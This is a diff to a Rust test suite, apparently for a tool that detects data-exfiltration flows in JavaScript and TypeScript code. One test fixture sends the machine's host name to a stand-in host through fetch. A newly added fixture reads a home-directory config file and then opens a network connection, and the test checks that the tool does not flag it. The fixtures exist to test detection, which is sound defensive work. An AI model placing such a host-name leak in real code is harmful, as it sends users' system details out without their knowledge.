@@ -149,3 +149,11 @@ fn typescript_parses() {
     let f = analyze("x.ts", "import * as os from 'os'; const h: string = os.hostname(); fetch(`https://x.io/?h=${h}`);", &Options::default());
     assert_eq!(f.flows.len(), 1, "{:#?} {:?}", f.flows, f.diagnostics);
 }
+
+#[test]
+fn file_read_at_home_path_is_not_the_home_directory() {
+    let f = run("const os = require('os'), net = require('net'); const load = () => require('fs');
+        const cfg = JSON.parse(load().readFileSync(os.homedir() + '/.app/lock.json', 'utf8'));
+        net.createConnection({ host: cfg.host, port: cfg.port });");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+}
